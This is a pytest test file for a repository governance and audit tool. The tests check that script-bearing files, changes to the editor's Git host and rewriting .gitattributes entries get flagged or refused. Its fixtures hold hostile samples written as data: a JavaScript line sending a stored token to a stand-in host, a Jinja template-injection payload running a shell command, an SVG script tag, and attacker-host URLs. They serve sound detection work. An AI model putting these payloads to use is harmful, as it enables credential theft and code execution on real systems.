"""Issue 21 on real repositories: code judged as presentation, the form editor's Git host
(`penyunting`) as a governance notice, and `.gitattributes` that make the work tree differ from
what was committed (validation refuses them; the audit and the review summary name them)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import RECORD, edited, start_repository

from generator.cli.main import main
from generator.history.demo import GitWriter
from generator.history.judge import EDITOR_CHANGED

OFFICE = "records/kantor.yaml"


def head(repo: GitWriter) -> str:
    return repo.git("rev-parse", "HEAD").strip()


def audit_json(root: Path, capsys: pytest.CaptureFixture[str]) -> dict:
    main(["audit", "--format", "json", "--pada", "2026-11-28", "--repo", str(root)])
    return json.loads(capsys.readouterr().out)


def landing(data: dict, sha: str) -> dict:
    return next(x for x in data["perubahan"] if x["commit"] == sha)


def summary(project: Path, branch: str, capsys: pytest.CaptureFixture[str]) -> str:
    assert main(["diff", "main", branch, "--repo", str(project)]) == 0
    return capsys.readouterr().out


# --- code judged as presentation ---------------------------------------------------------------

CODE = [
    ("site_templates/portal/hooks.py", "print('x')\n", "program Python: dijalankan pada setiap pembangunan"),
    ("site_templates/editor/format.js", "fetch('https://x.example/?t='+localStorage.k)\n", "JavaScript: berjalan"),
    ("site_templates/editor/locale-id.js", "export default {}\n", "juga di penyunting yang menyimpan token Git staf"),
    ("site_templates/dokumen/undangan.html", "{{ cycler.__init__.__globals__.os.popen('id').read() }}\n", "templat"),
    ("site_templates/audit/audit.md.j2", "{{ intro }}\n", "templat: dijalankan Jinja"),
    ("site_templates/portal/overrides/main.html", "{% extends 'base.html' %}\n", "templat"),
    ("docs/assets/jejak.css", ".temuan { display: none }\n", "CSS: dapat menyembunyikan"),
    ("site_templates/dokumen/cetak.css", "body { font-size: 0 }\n", "CSS"),
    ("schema/aset/logo-kota.svg", "<svg><script>alert(1)</script></svg>\n", "SVG: gambar yang dapat memuat skrip"),
    ("site_templates/dokumen/arial.ttf", "bukan fon\n", "fon: dapat menggambar"),
    ("site_templates/docx/undangan.docx", "bukan docx\n", "templat Word"),
    ("mkdocs.yml", "hooks: [x.py]\n", "konfigurasi MkDocs"),
    (".gitattributes", "*.md text\n", ".gitattributes: menentukan bagaimana Git menulis"),
]
INERT = [("docs/panduan/baru.md", "# Baru\n"), ("schema/aset/foto.png", "png\n"), ("README.md", "Jejak\n")]


@pytest.mark.parametrize(("path", "text", "why"), CODE)
def test_files_that_run_or_change_what_a_page_shows_are_code(
    project: Path, capsys: pytest.CaptureFixture[str], path: str, text: str, why: str
) -> None:
    repo = start_repository(project)
    repo.propose("dedi/ubah", {path: text}, "Perbaikan tampilan", "dedi", "2024-02-01 09:00")
    out = summary(project, "dedi/ubah", capsys)
    assert f"{path}\n  - berkas kode " in out and why in out and "tinjau isinya baris demi baris" in out
    assert "berkas tampilan" not in out
    repo.merge("dedi/ubah", "yusuf", "2024-02-01 10:00", 1)
    found = landing(audit_json(project, capsys), head(repo))
    assert found["kelompok"] == ["kode"]


@pytest.mark.parametrize(("path", "text"), INERT)
def test_only_inert_files_are_presentation(
    project: Path, capsys: pytest.CaptureFixture[str], path: str, text: str
) -> None:
    repo = start_repository(project)
    repo.propose("dedi/ubah", {path: text}, "Gambar", "dedi", "2024-02-01 09:00")
    assert f"{path}\n  - berkas tampilan ditambahkan\n" in summary(project, "dedi/ubah", capsys)


def test_audit_page_names_what_the_code_does(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = start_repository(project)
    repo.write("site_templates/portal/hooks.py", "import os\nos.system('curl x')\n")
    repo.commit("Rapikan tampilan", "dedi", "2024-02-01 09:00")
    main(["audit", "--pada", "2026-11-28", "--repo", str(project)])
    out = capsys.readouterr().out
    assert "kode: site_templates/portal/hooks.py" in out and "dikomit langsung ke main oleh Dedi" in out


# --- penyunting: where staff's Git tokens go -------------------------------------------------------

EDITOR = """penyunting:
  jenis: forgejo
  alamat: https://git.pagaralam.example
  repositori: blk-pagaralam/jejak
  cabang: main
  id_aplikasi: contoh-id-aplikasi-oauth
"""


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("alamat: https://git.pagaralam.example", "alamat: https://git.pagaralam.example.penyerang.example"),
        ("  jenis: forgejo\n", "  jenis: gitea\n"),
        ("repositori: blk-pagaralam/jejak", "repositori: orang-lain/jejak"),
        ("id_aplikasi: contoh-id-aplikasi-oauth", "id_aplikasi: aplikasi-lain"),
        ("  cabang: main\n", "  cabang: main\n  basis_url: https://auth.penyerang.example\n"),
    ],
)
def test_a_change_of_the_editors_git_host_is_a_governance_notice(
    project: Path, capsys: pytest.CaptureFixture[str], old: str, new: str
) -> None:
    assert EDITOR in (project / OFFICE).read_text(encoding="utf-8")
    repo = start_repository(project)
    repo.propose("sri/host", {OFFICE: edited(project, old, new, OFFICE)}, "Pindah host", "sri", "2024-02-01 09:00")
    out = summary(project, "sri/host", capsys)
    assert "PERHATIAN: penyunting formulir berubah" in out and "token Git staf" in out
    repo.merge("sri/host", "yusuf", "2024-02-01 10:00", 1)
    data = audit_json(project, capsys)
    found = landing(data, head(repo))
    assert found["golongan"] == "disetujui" and found["perhatian"] == [EDITOR_CHANGED]


def test_removing_the_editor_block_is_a_notice_too(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = start_repository(project)
    repo.propose(
        "sri/host", {OFFICE: edited(project, EDITOR, "", OFFICE)}, "Tanpa penyunting", "sri", "2024-02-01 09:00"
    )
    repo.merge("sri/host", "yusuf", "2024-02-01 10:00", 1)
    assert landing(audit_json(project, capsys), head(repo))["perhatian"] == [EDITOR_CHANGED]


def test_other_office_edits_are_no_editor_notice(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo = start_repository(project)
    repo.propose(
        "sri/k",
        {OFFICE: edited(project, 'kode_pos: "31512"', 'kode_pos: "31513"', OFFICE)},
        "Kode pos",
        "sri",
        "2024-02-01 09:00",
    )
    assert "penyunting" not in summary(project, "sri/k", capsys)
    repo.merge("sri/k", "yusuf", "2024-02-01 10:00", 1)
    assert landing(audit_json(project, capsys), head(repo))["perhatian"] == []


# --- .gitattributes: the build reads one thing, the review another -------------------------------

REWRITING = [
    ("records/2024/*.yaml ident\n", "ident"),
    ("*.yaml filter=lfs diff=lfs merge=lfs -text\n", "filter=lfs"),
    ("site_templates/** working-tree-encoding=UTF-16LE\n", "working-tree-encoding=UTF-16LE"),
    ("*.html text eol=crlf\n", "eol=crlf"),
    ("*.yaml -diff\n", "-diff"),
    ("records/** linguist-generated\n", "linguist-generated"),
    ("*.yaml binary\n", "binary"),
    ("*.j2 diff=kosong\n", "diff=kosong"),
    ("[attr]diam -diff\n*.yaml diam\n", "-diff"),
    ('"records/20 24/*" ident\n', "ident"),
    ("*.yaml\t-text\tident\n", "ident"),
]


@pytest.mark.parametrize(("line", "attribute"), REWRITING)
@pytest.mark.parametrize("where", [".gitattributes", "records/.gitattributes", ".git/info/attributes"])
def test_validation_refuses_attributes_that_rewrite_or_hide_files(
    project: Path, capsys: pytest.CaptureFixture[str], line: str, attribute: str, where: str
) -> None:
    GitWriter(project).init()
    target = project / where
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("# atribut\n" + line, encoding="utf-8")
    assert main(["validate", "--repo", str(project)]) == 1
    out = capsys.readouterr().out
    assert f"{where}:2:1: galat: atribut `{attribute}` pada pola `" in out
    assert "  saran: hapus atribut itu; Jejak membangun portal dari berkas persis seperti yang di-commit" in out


def test_attributes_above_the_jejak_root_count_too(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outer = tmp_path / "luar"
    outer.mkdir()
    inner = outer / "portal"
    project.rename(inner)
    GitWriter(outer).init()
    (outer / ".gitattributes").write_text("portal/records/** ident\n", encoding="utf-8")
    assert main(["validate", "--repo", str(inner)]) == 1
    assert "../.gitattributes:1:1: galat: atribut `ident`" in capsys.readouterr().out


@pytest.mark.parametrize(
    "text",
    [
        "* text=auto\n",
        "*.sh text eol=lf\n",
        "*.pdf binary\n",
        "lampiran/**/*.png -text -diff\n",
        "*.docx -diff\n",
        "# komentar ident\n",
        "*.md diff\n",
        "*.yaml -ident !filter\n",
    ],
)
def test_attributes_that_change_nothing_stay_allowed(
    project: Path, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    GitWriter(project).init()
    (project / ".gitattributes").write_text(text, encoding="utf-8")
    assert main(["validate", "--repo", str(project)]) == 0, capsys.readouterr().out


def test_ident_really_makes_the_work_tree_differ_and_the_audit_names_it(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What the attack does: the committed record says `$Id$`, the checked-out one a hash."""
    repo = start_repository(project)
    repo.propose(
        "dedi/atribut",
        {".gitattributes": "records/**/*.yaml ident\n", RECORD: edited(project, "kuota: 12", "kuota: 12  # $Id$")},
        "Rapikan",
        "dedi",
        "2024-02-01 09:00",
    )
    out = summary(project, "dedi/atribut", capsys)
    assert ".gitattributes\n  - berkas kode ditambahkan\n" in out
    assert "  - PERHATIAN: baris 1: atribut `ident` pada pola `records/**/*.yaml` membuat isi berkas" in out
    repo.merge("dedi/atribut", "yusuf", "2024-02-01 10:00", 1)
    merge = head(repo)
    (project / RECORD).unlink()
    repo.git("checkout", "--", RECORD)
    on_disk = (project / RECORD).read_text(encoding="utf-8")
    committed = repo.git("show", f"HEAD:{RECORD}")
    assert "$Id: " in on_disk and "$Id$" in committed  # the build would read a different file
    found = landing(audit_json(project, capsys), merge)
    assert found["golongan"] == "tidak-terbukti"
    assert found["temuan"] == [
        ".gitattributes:1: atribut `ident` pada pola `records/**/*.yaml` membuat isi berkas di folder kerja "
        "berbeda dari yang di-commit: portal dibangun dari yang satu, peninjau membaca yang lain"
    ]
    assert main(["validate", "--repo", str(project)]) == 1
    assert ".gitattributes:1:1: galat: atribut `ident`" in capsys.readouterr().out


def test_a_nested_attributes_file_landing_directly_is_reported(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = start_repository(project)
    repo.write("records/2024/.gitattributes", "*.yaml working-tree-encoding=UTF-16\n")
    repo.commit("Pengodean", "dedi", "2024-02-01 09:00")
    found = landing(audit_json(project, capsys), head(repo))
    assert "records/2024/.gitattributes:1: atribut `working-tree-encoding=UTF-16`" in " ".join(found["temuan"])
